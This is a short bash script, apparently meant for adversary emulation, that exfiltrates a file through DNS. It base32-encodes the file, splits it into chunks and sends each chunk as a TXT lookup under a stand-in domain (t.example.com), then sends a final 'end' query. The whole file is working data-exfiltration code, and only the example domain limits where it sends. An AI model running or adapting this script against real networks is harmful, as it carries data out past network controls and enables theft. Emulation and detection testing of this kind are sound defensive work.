#!/bin/bash
# Carries a file out of a network in the names that it asks the resolver for, as a DNS tunnel does. It talks to a name
# server of the emulation's own, below an example name (RFC 2606), and to nothing else.
# Usage: carry-out.sh FILE NAME
set -eu

file=$1
name=$2
number=0
while read -r piece; do
  dig +short +tries=1 TXT "$piece.$number.$name.t.example.com" >/dev/null
  number=$((number + 1))
done < <(base32 --wrap 50 "$file" | tr -d = | tr '[:upper:]' '[:lower:]')
dig +short TXT "end.$number.$name.t.example.com" >/dev/null
echo "$(stat --format %s "$file") bytes asked for in $number names"
